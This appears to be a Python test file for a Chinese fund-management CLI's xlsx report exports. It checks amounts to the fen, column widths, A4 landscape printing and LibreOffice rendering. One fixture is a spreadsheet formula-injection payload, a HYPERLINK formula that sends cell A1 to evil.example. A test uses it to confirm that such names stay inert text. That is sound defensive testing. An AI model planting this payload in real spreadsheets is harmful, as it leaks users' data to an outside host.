"""xlsx fit to file: read back with openpyxl, the numbers equal the JSON reports to the 分.

cli.md "The office's daily work": widths fit the content, amounts are numbers in
``#,##0.00``, a title block, a frozen header, a totals row, A4 landscape fitted
to the page width; ``report all`` writes one workbook with a sheet per report.
The last test has LibreOffice print a workbook to PDF and looks for ``###``.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from decimal import Decimal

import pytest

from cli.output import width
from cli.reports import COLUMNS
from ledger.money import format_grouped
from presentation import sheets
from presentation.labels import REPORT_HEADERS, REPORT_TITLES, header
from tests.e2e.driver import Cli, awarded, describe, standard_world
from tests.helpers import HOSPITAL, header_row, printed_by_libreoffice, read_sheet

COMMON_TECH = "qd2024-01-common-tech"
EQUITY = "qd2024-22-equity"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.fixture
def office(sqlite_url) -> Cli:
    cli = standard_world(Cli(sqlite_url))
    cli.ok("unit", "register", HOSPITAL, "--name", EVIL, "--type", "hospital")
    awarded(cli, "QD-2024-001", COMMON_TECH, "500万")
    cli.ok("disburse", "QD-2024-001", "--amount", "1,234,567.89", "--voucher", "PZ-1", "--date", "2024-09-02")
    awarded(cli, "QD-2024-002", COMMON_TECH, "3万", unit=HOSPITAL)
    cli.ok("disburse", "QD-2024-002", "--amount", "0.01", "--voucher", "PZ-2", "--date", "2024-09-03")
    awarded(cli, "QD-2024-003", EQUITY, "800万", fund="TZ", extra=("--mode", "equity"))
    cli.ok(
        "invest",
        *("QD-2024-003", "--amount", "300万", "--stake", "5.25", "--valuation", "1亿"),
        *("--voucher", "TZ-1", "--date", "2024-09-04"),
    )
    cli.ok("approve", "TZ-1", "--date", "2024-09-05", actor="approver")
    return cli


def write_all(cli: Cli, tmp_path, *args: str):
    from openpyxl import load_workbook

    out = tmp_path / "all.xlsx"
    result = cli("report", "all", *args, "--format", "xlsx", "--out", str(out), fmt="table")
    assert result.exit_code == 0 and result.stdout == "", describe(result)
    return out, load_workbook(out)


def test_report_all_writes_one_sheet_per_report_whose_numbers_equal_the_json_reports_to_the_fen(office, tmp_path):
    from projections.reports import MONEY

    _, book = write_all(office, tmp_path, "--year", "2024")
    assert book.sheetnames == [REPORT_TITLES[name] for name in COLUMNS]
    for name in COLUMNS:
        reported = office.ok("report", name, "--year", "2024")
        headers, rows, totals = read_sheet(book[REPORT_TITLES[name]])
        assert len(rows) == len(reported), name
        for column in MONEY[name]:
            shown = REPORT_HEADERS.get(name, {}).get(column, header(column))  # the report's own, or the common
            if shown not in headers:  # not among the sheet's printed columns
                continue
            at = headers.index(shown)
            for cell, row in zip(rows, reported, strict=True):
                assert isinstance(cell[at], (int, float, Decimal)), (name, column, cell[at])
                assert Decimal(str(cell[at])).quantize(Decimal("0.01")) == Decimal(row[column]), (name, column)
            if totals is not None and totals[at] is not None:
                assert Decimal(str(totals[at])).quantize(Decimal("0.01")) == sum(Decimal(r[column]) for r in reported)


def test_every_sheet_has_a_title_block_a_frozen_header_and_prints_on_a4_landscape_one_page_wide(office, tmp_path):
    _, book = write_all(office, tmp_path, "--year", "2024", "--as-of", "2024-12-31")
    for name in COLUMNS:
        sheet = book[REPORT_TITLES[name]]
        title, filters, made = (sheet.cell(row=r, column=1).value for r in (1, 2, 3))
        assert title == REPORT_TITLES[name]
        assert "年度: 2024" in filters and "截至: 2024-12-31" in filters and "单位: 元" in filters
        assert "制表时间:" in made and "制表人: admin" in made
        at = header_row(sheet)
        assert sheet.freeze_panes == f"A{at + 1}"
        assert sheet.print_title_rows.replace("$", "") == f"{at}:{at}"  # the header repeats on every page
        setup = sheet.page_setup
        assert (setup.orientation, str(setup.paperSize), setup.fitToWidth, setup.fitToHeight) == (
            "landscape",
            "9",
            1,
            0,
        )
        assert sheet.sheet_properties.pageSetUpPr.fitToPage


def test_awards_sheet_totals_add_up_from_fen_and_amounts_use_thousands_separators(office, tmp_path):
    _, book = write_all(office, tmp_path)
    headers, _rows, totals = read_sheet(book[REPORT_TITLES["awards"]])
    reported = office.ok("report", "awards")
    for column in ("awarded", "disbursed", "available"):
        at = headers.index(header(column))
        assert Decimal(str(totals[at])) == sum(Decimal(r[column]) for r in reported)
    sheet = book[REPORT_TITLES["awards"]]
    at = header_row(sheet)
    money = headers.index(header("awarded")) + 1
    assert {sheet.cell(row=r, column=money).number_format for r in range(at + 1, sheet.max_row + 1)} == {"#,##0.00"}


def test_columns_are_wide_enough_for_what_they_show_counting_cjk_double(office, tmp_path):
    from openpyxl.utils import get_column_letter

    _, book = write_all(office, tmp_path)
    for sheet in book.worksheets:
        at = header_row(sheet)
        for index in range(1, sheet.max_column + 1):
            shown = []
            for (cell,) in sheet.iter_rows(min_row=at, min_col=index, max_col=index):
                value = cell.value
                if cell.alignment.wrap_text:  # long text wraps inside its cell: it needs no width of its own
                    assert value is None or isinstance(value, str)
                    continue
                if isinstance(value, (int, float, Decimal)) and cell.number_format == "#,##0.00":
                    shown.append(format_grouped(int(Decimal(str(value)) * 100)))
                elif value is not None:
                    shown.append(str(value))
            needed = max(map(width, shown), default=0)
            assert sheet.column_dimensions[get_column_letter(index)].width >= needed, (sheet.title, index, shown)


def test_enum_values_are_in_chinese_and_stakes_are_numbers(office, tmp_path):
    _, book = write_all(office, tmp_path)
    headers, rows, _ = read_sheet(book[REPORT_TITLES["equity"]])
    (row,) = rows
    stake = row[headers.index(header("stake"))]
    assert isinstance(stake, (int, float, Decimal)) and Decimal(str(stake)) == Decimal("5.25")
    assert row[headers.index(header("status"))] == "持有中"
    assert row[headers.index(header("mode"))] == "股权投资(拨改投)"
    headers, rows, _ = read_sheet(book[REPORT_TITLES["units"]])
    assert {"企业", "高校", "创投风投机构", "医疗机构"} == {r[headers.index(header("type"))] for r in rows}


def test_a_unit_named_like_a_formula_stays_text_and_the_amounts_stay_numbers(office, tmp_path):
    from openpyxl import load_workbook

    out, _ = write_all(office, tmp_path)
    book = load_workbook(out)  # data_type is what Excel will see: 'f' would be a live formula
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    headers, rows, _ = read_sheet(book[REPORT_TITLES["units"]])
    (evil,) = [r for r in rows if r[headers.index(header("unit"))] == HOSPITAL]
    assert evil[headers.index(header("name"))] == "'" + EVIL
    assert Decimal(str(evil[headers.index(header("disbursed"))])) == Decimal("0.01")


def test_report_all_needs_xlsx(office):
    _, code, message = office.refused("report", "all")
    assert code == "INVALID_INPUT" and "xlsx" in message


def test_amounts_in_wan_yuan_stay_exact_to_the_fen(tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "wan.xlsx"
    rows = [{"fund": "KJ", "appropriated": 123456789, "available": 1}]
    table = sheets.Table("专项资金预算执行表", rows, money=("appropriated", "available"))
    sheets.write(str(out), [table], sheets.Stamp(made_by="clerk", yuan_unit="万元"))
    sheet = load_workbook(out).active
    assert "单位: 万元" in sheet["A2"].value
    _headers, (row,), totals = read_sheet(sheet)
    assert Decimal(str(row[1])) == Decimal("123.456789") and Decimal(str(row[2])) == Decimal("0.000001")
    assert Decimal(str(totals[1])) == Decimal("123.456789")
    assert sheet.cell(row=header_row(sheet) + 1, column=2).number_format == "#,##0.00####"


def test_an_unknown_unit_of_money_is_refused(tmp_path):
    with pytest.raises(ValueError):
        sheets.write(str(tmp_path / "x.xlsx"), [], sheets.Stamp(made_by="clerk", yuan_unit="千元"))


def test_libreoffice_prints_the_workbook_without_any_hash_marks(office, tmp_path):
    """A real spreadsheet renders every cell: any too-narrow number would print as ###."""
    out, _ = write_all(office, tmp_path, "--year", "2024")
    text = printed_by_libreoffice(out, tmp_path)
    assert "###" not in text
    assert "项目批复与拨付明细表" in text and "试算平衡表" in text
    assert "1,234,567.89" in text and "5,000,000.00" in text and "100,000,000.00" in text


# -- issue 27: sheets that print readably ---------------------------------------------------------------------


def test_every_default_sheet_prints_on_a4_landscape_at_8_pt_or_more(office, tmp_path):
    """The default columns of each report fit one A4 landscape page wide with the 11 pt text at ≥ 8 pt (the
    awards sheet printed its 18 columns at ~4 pt before)."""
    from openpyxl.utils import get_column_letter

    _, book = write_all(office, tmp_path, "--year", "2024")
    for sheet in book.worksheets:
        widths = [sheet.column_dimensions[get_column_letter(i)].width for i in range(1, sheet.max_column + 1)]
        assert sheets.printed_pt(widths) >= 8, (sheet.title, round(sheets.printed_pt(widths), 1), widths)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
    headers = header_row_values(book[REPORT_TITLES["awards"]])
    assert "预算年度" not in headers and "例外文号" not in headers and "条款名称" not in headers
    assert "尚可拨付" in headers and len(headers) == len(set(headers))


def header_row_values(sheet) -> list[str]:
    return [c.value for c in sheet[header_row(sheet)]]


def test_columns_are_honoured_in_xlsx_and_a_wide_choice_prints_at_8_pt_over_more_pages(office, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "a.xlsx"
    chosen = "application,unit_name,awarded,payable"
    result = office("report", "awards", "--columns", chosen, "--format", "xlsx", "--out", str(out), fmt="table")
    assert result.exit_code == 0, describe(result)
    assert "已写入" in result.stderr
    sheet = load_workbook(out).active
    assert header_row_values(sheet) == ["申报编号", "单位名称", "批复金额", "尚可拨付"]
    keys = list(office.ok("report", "awards")[0])
    every = ",".join(keys)
    result = office("report", "awards", "--columns", every, "--format", "xlsx", "--out", str(out), fmt="table")
    assert result.exit_code == 0, describe(result)
    sheet = load_workbook(out).active
    assert len(header_row_values(sheet)) == len(keys) == 19
    assert not sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.scale >= 73


def test_the_payable_column_is_awarded_less_paid_less_pending(office):
    for row in office.ok("report", "awards"):
        assert Decimal(row["payable"]) == Decimal(row["awarded"]) - Decimal(row["disbursed"]) - Decimal(row["pending"])
    table = office("report", "awards", fmt="table").stdout
    assert "尚可拨付" in table.splitlines()[0]


def test_a_closed_flag_reads_yes_or_no(office, tmp_path):
    _, book = write_all(office, tmp_path)
    headers, rows, _ = read_sheet(book[REPORT_TITLES["carryover"]])
    assert {r[headers.index("已结账")] for r in rows} == {"否"}


def test_libreoffice_prints_the_awards_sheet_at_8_pt_or_more_on_landscape_pages(office, tmp_path):
    """Printed by a real spreadsheet: the page is A4 landscape and the words of the rows are at least 8 pt
    high (poppler's bounding boxes of the text, in points)."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not (soffice and shutil.which("pdftotext") and shutil.which("pdfinfo")):
        pytest.skip("needs LibreOffice and poppler-utils (scripts/test installs them)")
    out = tmp_path / "awards.xlsx"
    assert office("report", "awards", "--format", "xlsx", "--out", str(out), fmt="table").exit_code == 0
    pdf = _print(soffice, out, tmp_path)
    info = subprocess.run(["pdfinfo", str(pdf)], check=True, capture_output=True, text=True).stdout
    width, height = (float(x) for x in re.search(r"Page size:\s+([\d.]+) x ([\d.]+)", info).groups())
    assert (round(width), round(height)) == (842, 595), info  # A4 landscape
    box = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], check=True, capture_output=True, text=True).stdout
    words = re.findall(r'<word xMin="[\d.]+" yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)">([^<]+)<', box)
    heights = [float(y1) - float(y0) for y0, y1, word in words if word in ("QD-2024-001", "5,000,000.00")]
    assert heights and min(heights) >= 8, heights
    assert "###" not in subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout


def _print(soffice: str, workbook, tmp_path):
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "pdf", "--outdir",
         str(tmp_path), str(workbook)],
        check=True, capture_output=True, timeout=240,
    )  # fmt: skip
    return tmp_path / (workbook.stem + ".pdf")


def test_the_later_acts_rows_print_at_8_pt_or_more_and_read_in_chinese(sqlite_url, tmp_path):
    """The rows the later acts make — a cancelled award, a reduced one, a project past its end date, a closed
    project, a payment held with its reason, a statement's changes — fit their sheets at ≥ 8 pt on A4
    landscape, and LibreOffice prints them with no ``###`` and no English status."""
    from openpyxl import load_workbook
    from openpyxl.utils import get_column_letter

    cli = standard_world(Cli(sqlite_url))
    awarded(cli, "QD-1", COMMON_TECH, "500万")
    awarded(cli, "QD-2", COMMON_TECH, "300万")
    cli.ok("cancel-award", "QD-2", "--doc", "撤-1", "--reason", "误批", "--date", "2024-09-10", actor="clerk")
    cli.ok("approve", "撤-1", "--date", "2024-09-11", actor="approver")
    cli.ok("reduce-award", "QD-1", "--amount", "400万", "--doc", "减-1", "--reason", "核减", "--date", "2024-09-12",
           actor="clerk")  # fmt: skip
    cli.ok("approve", "减-1", "--date", "2024-09-13", actor="approver")
    cli.ok("contract", "QD-1", "--doc", "任务书-1", "--end-date", "2024-11-30", "--date", "2024-09-14", actor="clerk")
    cli.ok("disburse", "QD-1", "--amount", "150万", "--voucher", "PZ-1", "--date", "2024-09-16", actor="clerk")
    cli.ok("extend", "QD-1", "--to", "2024-12-15", "--doc", "变更-2024-001", "--date", "2024-09-19", actor="clerk")
    awarded(cli, "QD-3", COMMON_TECH, "50万")
    cli.ok("disburse", "QD-3", "--amount", "20万", "--voucher", "PZ-3", "--date", "2024-09-20", actor="clerk")
    cli.ok("close-project", "QD-3", "--result", "pass", "--doc", "验-3", "--voucher", "ZH-3", "--date", "2024-10-01",
           actor="clerk")  # fmt: skip
    books = []
    for args in (("report", "all", "--as-of", "2024-12-31"), ("statement", "QD-1", "--as-of", "2024-12-31")):
        out = tmp_path / f"{args[0]}.xlsx"
        result = cli(*args, "--format", "xlsx", "--out", str(out), fmt="table")
        assert result.exit_code == 0, describe(result)
        books.append(out)
    overdue = load_workbook(books[0])[REPORT_TITLES["overdue"]]
    headers, rows, _ = read_sheet(overdue)
    assert [r[headers.index("申报编号")] for r in rows] == ["QD-1"] and rows[0][headers.index("逾期天数")] == 16
    chosen = ("--as-of", "2024-12-31", "--columns", "application,days_overdue")
    table = cli("report", "overdue", *chosen, fmt="table").stdout.splitlines()
    assert table[0].split() == ["申报编号", "逾期天数"] and table[2].split() == ["QD-1", "16"], table
    csv_text = cli("report", "overdue", *chosen, "--format", "csv", fmt="table").stdout
    assert csv_text.lstrip("\ufeff").splitlines() == ["申报编号,逾期天数", "QD-1,16"], csv_text
    out = tmp_path / "overdue.xlsx"
    assert cli("report", "overdue", *chosen, "--format", "xlsx", "--out", str(out), fmt="table").exit_code == 0
    assert read_sheet(load_workbook(out).active)[:2] == (["申报编号", "逾期天数"], [["QD-1", 16]])
    for path in books:
        for sheet in load_workbook(path).worksheets:
            widths = [sheet.column_dimensions[get_column_letter(i)].width for i in range(1, sheet.max_column + 1)]
            assert sheets.printed_pt(widths) >= 8, (path.name, sheet.title, round(sheets.printed_pt(widths), 1))
            assert sheet.page_setup.orientation == "landscape", (path.name, sheet.title)
        statuses = [
            str(cell.value)
            for sheet in load_workbook(path).worksheets
            for column in sheet.iter_cols()
            if any(c.value in ("状态", "类型", "事项") for c in column[:12])
            for cell in column
            if cell.value is not None
        ]
        assert statuses and not [v for v in statuses if re.search(r"[a-z]{3,}", v)], (path.name, statuses)
        printed = printed_by_libreoffice(path, tmp_path)
        assert "###" not in printed and "QD-1" in printed
